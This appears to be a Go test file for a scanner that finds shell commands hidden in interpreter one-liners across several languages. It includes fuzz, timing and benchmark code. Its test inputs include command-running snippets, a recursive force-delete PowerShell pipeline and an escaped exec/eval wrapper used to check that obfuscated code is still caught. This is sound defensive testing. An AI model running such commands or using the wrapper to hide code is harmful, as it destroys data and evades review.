	{py, `import sys; print(sys.path)`, ""},
	{py, `import os; print(os.cpu_count())`, ""},
	{py, `import secrets; print(secrets.token_hex(16))`, ""},
	{py, `import sys, json; json.dump(json.load(sys.stdin), sys.stdout, indent=2)`, ""},
	{py, `import os; os.makedirs("x", exist_ok=True)`, ""},
	{py, `import urllib.request; print(urllib.request.urlopen("https://example.org").read())`, ""},
	{py, `import torch; print(torch.cuda.is_available())`, ""},
	{py, `exec("print(1)")`, ""},
	{py, `import re; print(re.sub(r"a", "b", "abc"))`, ""},
	{py, `import subprocess; print(subprocess.__version__ if hasattr(subprocess, "__version__") else "")`, ""},
	{pl, `print unless $seen{$_}++`, ""},
	{pl, `use List::Util qw(sum); print sum(@ARGV)`, ""},
	{pl, `print "a" x 10`, ""},
	{pl, `print for 1..5`, ""},
	{pl, `tr/a-z/A-Z/`, ""},
	{pl, `s/\n//g`, ""},
	{pl, `open my $f, "<", $ARGV[0] or die; print <$f>`, ""},
	{pl, `use Time::HiRes qw(time); print time`, ""},
	{pl, `my @l = sort { $a <=> $b } @ARGV; print "@l\n"`, ""},
	{rb, `puts Dir.pwd`, ""},
	{rb, `puts $_.upcase`, ""},
	{rb, `puts [1, 2].sum`, ""},
	{rb, `require "securerandom"; puts SecureRandom.hex`, ""},
	{rb, `File.write("x", "y")`, ""},
	{rb, `p ARGV`, ""},
	{rb, `puts ARGF.read.split.map(&:to_i).sum / 2`, ""},
	{js, `console.log(require("os").cpus().length)`, ""},
	{js, `process.arch`, ""},
	{js, `fetch("https://example.org").then(r => r.text()).then(console.log)`, ""},
	{js, `console.log(new Date().toISOString())`, ""},
	{js, `const fs = require("fs"); console.log(fs.readdirSync("."))`, ""},
	{js, `require("http").createServer((q, s) => s.end("ok")).listen(8080)`, ""},
	{js, `const re = /ab+c/g; console.log("abbc".replace(re, "x") / 1)`, ""},
	{php, `phpinfo();`, ""},
	{php, `echo date("Y");`, ""},
	{php, `var_dump(extension_loaded("curl"));`, ""},
	{php, `$a = array_map(fn($x) => $x * 2, [1, 2]); print_r($a);`, ""},
	{awk, `length > 72`, ""},
	{awk, `!seen[$0]++`, ""},
	{awk, `{ sum += $NF } END { print sum }`, ""},
	{awk, `{ print > "out_" $1 ".txt" }`, ""},
	{awk, `BEGIN { srand(); print rand() }`, ""},
	{awk, `{ gsub(/foo/, "bar"); print }`, ""},
	{awk, `{$1=$1}1`, ""},
	{awk, `{ printf "%s|%s\n", $1, $2 }`, ""},
	{pwsh, `Get-Date`, ""},
	{pwsh, `$env:PATH -split ';'`, ""},
	{pwsh, `Get-Service | Where-Object Status -eq Running`, ""},
	{pwsh, `Test-Path C:\x`, ""},
	{pwsh, `[System.Environment]::OSVersion`, ""},
	{pwsh, `Write-Output $PSVersionTable`, ""},
}

func TestScanSource(t *testing.T) {
	for _, c := range srcCases {
		got := srcRender(ScanSource(c.lang, c.src))
		if want := srcWant(c.want); got != want {
			t.Errorf("ScanSource(%v, %q):\n got %q\nwant %q", c.lang, c.src, got, want)
		}
	}
	if len(srcCases) < 120 {
		t.Errorf("only %d cases", len(srcCases))
	}
}

func TestScanSourceUnknownLang(t *testing.T) {
	for _, l := range []Lang{0, -1, LangPowerShell + 1} {
		if got := ScanSource(l, `import os; os.system("id")`); !got.Empty() {
			t.Errorf("ScanSource(%d, …) = %+v, want nothing", l, got)
		}
	}
}

func TestLangOf(t *testing.T) {
	for name, want := range map[string]Lang{
		"python": LangPython, "python3": LangPython, "python3.12": LangPython, "/usr/bin/python3": LangPython,
		"pypy3": LangPython, "perl": LangPerl, "perl5.36": LangPerl, "ruby": LangRuby, "node": LangNode,
		"nodejs": LangNode, "deno": LangNode, "bun": LangNode, "php": LangPHP, "php8.2": LangPHP,
		"awk": LangAwk, "gawk": LangAwk, "mawk": LangAwk, "nawk": LangAwk, "pwsh": LangPowerShell,
		"powershell": LangPowerShell, "powershell.exe": LangPowerShell, `C:\x\pwsh.exe`: LangPowerShell,
		"bash": 0, "rm": 0, "": 0, "pythonista": 0,
	} {
		if got := LangOf(name); got != want {
			t.Errorf("LangOf(%q) = %v, want %v", name, got, want)
		}
	}
}

// TestScanSourceLinear checks that big and adversarial inputs take time
// linear in their size.
func TestScanSourceLinear(t *testing.T) {
	inputs := map[string]string{
		"nested parens":  strings.Repeat("(", 20000) + strings.Repeat(")", 20000),
		"nested calls":   strings.Repeat("os.system(", 20000) + strings.Repeat(")", 20000),
		"long chain":     "x" + strings.Repeat(".a", 30000),
		"many strings":   strings.Repeat(`"a" + `, 20000) + `"b"`,
		"unclosed":       strings.Repeat(`"`, 1) + strings.Repeat("x", 100000),
		"many evals":     `c = "import os; os.system('ls')"` + strings.Repeat("; exec(c)", 5000),
		"interpolations": strings.Repeat("`${", 5000) + strings.Repeat("}`", 5000),
		"assignments":    strings.Repeat("a = a + a\n", 5000),
		"doubling":       "a = 'xx'\n" + strings.Repeat("b = a + a\na = b + b\n", 40),
		"templates":      strings.Repeat("`${`", 3000),
		"fstrings":       strings.Repeat(`f"{f'{`, 3000),
		"pwsh subexpr":   strings.Repeat(`"$(`, 5000),
		"heredocs":       strings.Repeat("<<A\n", 5000),
		"functions":      strings.Repeat("def f(c):\n  os.system(c)\nf('x')\n", 3000) + strings.Repeat("'abc' ", 20000),
	}
	for name, in := range inputs {
		for _, lang := range []Lang{LangPython, LangPerl, LangRuby, LangNode, LangPHP, LangAwk, LangPowerShell} {
			start := time.Now()
			ScanSource(lang, in)
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("%s in %v: %v", name, lang, d)
			}
		}
	}
}

// FuzzScanSource checks that ScanSource never panics (its recover would
// report "source scan failed"), is deterministic, and returns lines a
// shell parser can take.
func FuzzScanSource(f *testing.F) {
	for _, c := range srcCases {
		f.Add(uint8(c.lang), c.src)
	}
	f.Fuzz(func(t *testing.T, lang uint8, src string) {
		l := Lang(lang%7 + 1)
		start := time.Now()
		a := ScanSource(l, src)
		if d := time.Since(start); d > 2*time.Second && len(src) < 1<<16 {
			t.Errorf("%v: %d bytes took %v", l, len(src), d)
		}
		for _, d := range a.Dynamic {
			if strings.HasPrefix(d, "source scan failed") {
				t.Fatalf("%v: %s", l, d)
			}
		}
		for _, s := range a.Shell {
			if strings.IndexByte(s, 0) >= 0 {
				t.Fatalf("%v: NUL in shell line %q", l, s)
			}
		}
		if b := ScanSource(l, src); srcRender(a) != srcRender(b) {
			t.Fatalf("%v: not deterministic:\n%s\n%s", l, srcRender(a), srcRender(b))
		}
		// Code run through eval of an escaped string literal does what
		// the code itself does.
		if wrap, ok := srcEvalWrap(l, src); ok && len(src) < 4096 {
			if b := ScanSource(l, wrap); srcRender(a) != srcRender(b) {
				t.Fatalf("%v: %q and %q differ:\n%s\n%s", l, src, wrap, srcRender(a), srcRender(b))
			}
		}
	})
}

// srcEvalWrap returns code that evals src, given as a string literal with
// every byte but letters and digits escaped.
func srcEvalWrap(l Lang, src string) (string, bool) {
	for i := 0; i < len(src); i++ {
		if src[i] >= 0x80 || src[i] == 0 {
			return "", false
		}
	}
	var b strings.Builder
	for i := 0; i < len(src); i++ {
		c := src[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "\\x%02x", c)
		}
	}
	switch l {
	case LangPython:
		return `exec("` + b.String() + `")`, true
	case LangNode:
		return `eval("` + b.String() + `")`, true
	}
	return "", false
}

// BenchmarkScanSource measures typical payloads: a plain one and one that
// runs a command.
func BenchmarkScanSource(b *testing.B) {
	for _, c := range []srcCase{
		{py, `import json,sys; print(json.load(sys.stdin)["a"])`, ""},
		{py, `import subprocess; subprocess.run(["git", "status"], check=True)`, ""},
		{pl, `while (<>) { s/foo/bar/g; print }`, ""},
		{js, `require("child_process").execSync("ls -l", {stdio: "inherit"})`, ""},
		{pwsh, `Get-ChildItem -Recurse | Remove-Item -Force`, ""},
	} {
		b.Run(c.lang.String(), func(b *testing.B) {
			for b.Loop() {
				ScanSource(c.lang, c.src)
			}
		})
	}
}
